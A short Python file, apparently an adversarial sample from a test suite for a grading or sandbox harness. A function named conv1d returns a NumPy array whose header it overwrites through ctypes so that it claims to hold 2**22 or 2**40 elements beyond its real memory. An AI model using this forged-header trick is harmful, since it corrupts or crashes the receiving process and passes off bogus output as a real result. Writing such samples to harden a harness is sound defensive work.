"""Changes an array's shape, strides and type behind NumPy's back, before it is sent."""

ATTEMPTS = "forging: wrong array header"

import ctypes

import numpy as np


def conv1d(signal, kernel, stride=1, pad=0):
    array = np.zeros(3)
    # PyArrayObject: two words of header, data, nd, dimensions
    dimensions = ctypes.cast(
        ctypes.c_void_p.from_address(id(array) + 32).value, ctypes.POINTER(ctypes.c_ssize_t)
    )
    # A large array, whose numbers lie beyond the end of its memory; more than may cross.
    dimensions[0] = 2**22 if len(signal) % 2 else 2**40
    return array
